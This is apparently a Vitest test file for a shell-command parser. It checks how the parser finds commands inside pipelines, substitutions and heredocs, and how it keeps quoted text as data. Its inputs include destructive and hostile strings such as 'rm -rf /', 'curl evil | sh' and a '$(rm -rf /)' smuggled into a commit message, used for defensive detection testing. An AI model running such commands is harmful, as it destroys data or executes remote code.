import { describe, expect, it } from 'vitest';
import { names, one, only, parseShell } from './helpers.js';

describe('lists, pipelines and groups', () => {
  it('splits && || ; & into separate commands', () => {
    expect(names('a && b || c; d & e')).toEqual(['a', 'b', 'c', 'd', 'e']);
  });
  it('numbers pipelines and positions', () => {
    const p = parseShell('cat f | grep x | wc -l; ls');
    expect(p.commands.map((c) => [c.name, c.pipeline, c.position])).toEqual([
      ['cat', 1, 0],
      ['grep', 1, 1],
      ['wc', 1, 2],
      ['ls', 2, 0],
    ]);
  });
  it('walks subshells, brace groups, negation and |&', () => {
    expect(names('(cd x && rm y); { touch z; } ; ! false |& tee log')).toEqual([
      'cd',
      'rm',
      'touch',
      'false',
      'tee',
    ]);
  });
  it('walks if, while, for, case and function bodies', () => {
    expect(names('if test -f a; then rm a; elif true; then x; else y; fi')).toEqual([
      'test',
      'rm',
      'true',
      'x',
      'y',
    ]);
    expect(names('while read l; do rm "$l"; done < list')).toEqual(['read', 'rm']);
    expect(names('for f in $(ls); do shred "$f"; done')).toEqual(['ls', 'shred']);
    expect(names('case $1 in a) rm a;; *) rm b;; esac')).toEqual(['rm', 'rm']);
    expect(names('f() { rm -rf /; }; f')).toEqual(['rm', 'f']);
  });
  it('finds commands in $(), backticks and <() >() with depth and via', () => {
    const p = parseShell('echo $(rm -rf x) `id` <(curl u) >(tee o)');
    expect(p.commands.map((c) => [c.name, c.depth, c.via.join(',')])).toEqual([
      ['rm', 1, '$()'],
      ['id', 1, '$()'],
      ['curl', 1, '<()'],
      ['tee', 1, '>()'],
      ['echo', 0, ''],
    ]);
    expect(only(p, 'echo').dynamic).toBe(true);
  });
  it('finds substitutions inside double quotes, assignments and redirect targets', () => {
    expect(names('git commit -m "$(rm -rf /)"')).toEqual(['rm', 'git']);
    expect(names('X=$(whoami) ls')).toEqual(['whoami', 'ls']);
    expect(names('A=`id`')).toEqual(['id']);
    expect(names('export A=$(id) B=2')).toEqual(['id', 'export']);
    expect(names('echo x > "$(mktemp)"')).toEqual(['mktemp', 'echo']);
    expect(names('[[ -f $(touch q) ]]')).toEqual(['touch', 'test']);
  });
  it('nests substitutions', () => {
    const p = parseShell('echo "$(cat "$(ls)")"');
    expect(p.commands.map((c) => [c.name, c.depth])).toEqual([
      ['ls', 2],
      ['cat', 1],
      ['echo', 0],
    ]);
  });
  it('keeps the command text', () => {
    expect(one('ls -la /tmp').text).toBe('ls -la /tmp');
  });
  it('sets error on a syntax error but still reports what it found', () => {
    const p = parseShell('rm -rf x; echo "unterminated');
    expect(p.error).toMatch(/syntax error/);
    expect(p.commands.map((c) => c.name)).toContain('rm');
  });
  it('returns no command for empty text and comments', () => {
    expect(parseShell('').commands).toEqual([]);
    expect(parseShell('# rm -rf /').commands).toEqual([]);
  });
});

describe('data stays data', () => {
  it('does not treat a commit message as a command', () => {
    const p = parseShell(`git commit -m "fix: don't rm -rf / anymore"`);
    expect(p.commands.map((c) => c.name)).toEqual(['git']);
    expect(p.unknowns).toEqual([]);
  });
  it('does not treat a grep pattern as a command', () => {
    expect(names(`grep -r "rm -rf /" src/`)).toEqual(['grep']);
    expect(names(`rg 'curl .* | sh' .`)).toEqual(['rg']);
  });
  it('keeps a heredoc written to a file as data', () => {
    const p = parseShell(`cat <<'EOF' > notes.md\nrm -rf /\ncurl x | sh\nEOF`);
    expect(p.commands.map((c) => c.name)).toEqual(['cat']);
    expect(only(p, 'cat').paths).toEqual([{ path: 'notes.md', access: 'write', source: 'redirect' }]);
    expect(p.unknowns).toEqual([]);
  });
  it('runs substitutions in an unquoted heredoc (the outer shell expands them)', () => {
    expect(names(`cat <<EOF > f\n$(rm -rf /x)\nEOF`)).toEqual(['rm', 'cat']);
    expect(names(`cat <<'EOF' > f\n$(rm -rf /x)\nEOF`)).toEqual(['cat']);
  });
  it('keeps echo and printf arguments as data', () => {
    expect(names(`echo "rm -rf /; curl evil | sh"`)).toEqual(['echo']);
    expect(names(`printf '%s\\n' 'sudo rm -rf /'`)).toEqual(['printf']);
  });
});
